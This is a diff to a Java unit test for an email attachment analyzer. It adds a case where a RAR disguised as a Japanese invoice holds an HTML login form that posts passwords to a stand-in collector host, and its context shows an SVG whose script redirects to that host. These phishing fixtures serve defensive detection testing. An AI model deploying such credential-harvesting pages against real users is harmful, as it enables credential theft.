@@ -283,6 +283,17 @@ class HtmlAttachmentAnalyzerTest {
     }
 
     @Test
+    void aLoginPageCompressedInARarIsUnpackedAndFoundToo() throws Exception {
+        byte[] rar = RarWriter.rar5()
+                .add("請求書/invoice.html", RarWriter.Kind.PACKED, ("<html><body><form action='https://collect.example.net/p'>"
+                        + "<input name=u><input type=password name=p></form></body></html>").getBytes(StandardCharsets.UTF_8))
+                .end();
+        assertThat(analyzeFile("請求書.rar", rar)).containsExactly(
+                Finding.of("HTML_ATTACHMENT", "請求書.rar!/請求書/invoice.html"),
+                Finding.of("HTML_ATTACHMENT_FORM", "請求書.rar!/請求書/invoice.html: password field, form to https://collect.example.net/p"));
+    }
+
+    @Test
     void anSvgThatNavigatesByScriptInsideAZipInsideAZipIsActive() throws Exception {
         byte[] inner = zip("docs/scan.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
                 + "window.location='https://collect.example.net/?e='+atob('eA==')</script></svg>");
